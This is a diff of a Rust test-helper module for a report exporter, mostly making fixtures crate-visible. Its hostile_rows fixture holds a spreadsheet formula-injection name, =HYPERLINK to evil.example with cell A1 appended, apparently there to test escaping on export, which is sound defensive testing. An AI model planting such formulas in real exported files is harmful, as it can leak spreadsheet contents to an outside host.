@@ -1,8 +1,7 @@
-//! The forms of one small report, and the files of a published day.
+//! The forms of one small report and of lists, in the words that people read.
 
 mod csv;
 mod document;
-mod files;
 mod forms;
 mod versions;
 mod workbook;
@@ -15,17 +14,17 @@ use crate::domain::local_day::{LocalDay, Timestamp};
 use crate::domain::trust::{Trust, TrustReason};
 
 /// 2026-05-31, a Sunday.
-const DAY: LocalDay = LocalDay::from_number(20_604);
+pub(crate) const DAY: LocalDay = LocalDay::from_number(20_604);
 
 /// 2026-06-01T17:00:00.5Z.
-const AS_OF: Timestamp = Timestamp::from_micros(1_780_333_200_500_000);
+pub(crate) const AS_OF: Timestamp = Timestamp::from_micros(1_780_333_200_500_000);
 
-fn group(id: &str) -> Scope {
+pub(crate) fn group(id: &str) -> Scope {
     Scope::Group(GroupId::parse(id).unwrap())
 }
 
 /// A row with figures that all differ, and the four indicators by the contract's formulas.
-fn row(scope: Scope, name: &str, opening: i64, verdict: Verdict) -> DailyRow {
+pub(crate) fn row(scope: Scope, name: &str, opening: i64, verdict: Verdict) -> DailyRow {
     let figures = Figures {
         opening,
         closing: opening + 3 - 11,
@@ -68,7 +67,7 @@ fn row(scope: Scope, name: &str, opening: i64, verdict: Verdict) -> DailyRow {
     }
 }
 
-fn shown(row: DailyRow) -> ShownRow {
+pub(crate) fn shown(row: DailyRow) -> ShownRow {
     ShownRow {
         row,
         version: Some(2),
@@ -77,7 +76,7 @@ fn shown(row: DailyRow) -> ShownRow {
     }
 }
 
-fn plain_rows() -> Vec<ShownRow> {
+pub(crate) fn plain_rows() -> Vec<ShownRow> {
     let mut company = row(Scope::Company, "四川移动", 120_000, Verdict::Ok);
     company.trust = Trust::Warning;
     company.trust_reasons = vec![
@@ -132,7 +131,7 @@ fn plain_rows() -> Vec<ShownRow> {
 }
 
 /// Names as an attacker or a broken BOSS would choose them.
-fn hostile_rows() -> Vec<ShownRow> {
+pub(crate) fn hostile_rows() -> Vec<ShownRow> {
     let names = [
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
         "+8613800008000",
